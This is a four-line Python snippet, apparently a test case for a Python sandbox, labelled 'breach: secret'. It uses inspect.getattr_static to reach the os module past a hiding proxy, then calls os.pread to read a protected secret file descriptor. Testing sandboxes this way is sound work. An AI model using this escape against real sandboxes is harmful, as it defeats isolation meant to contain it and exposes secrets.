# inspect.getattr_static takes what a proxy would hide.
# breach: secret
import inspect
inspect.getattr_static(inspect.getattr_static(inspect, "os"), "pread")(SECRET_FD, 100, 0)
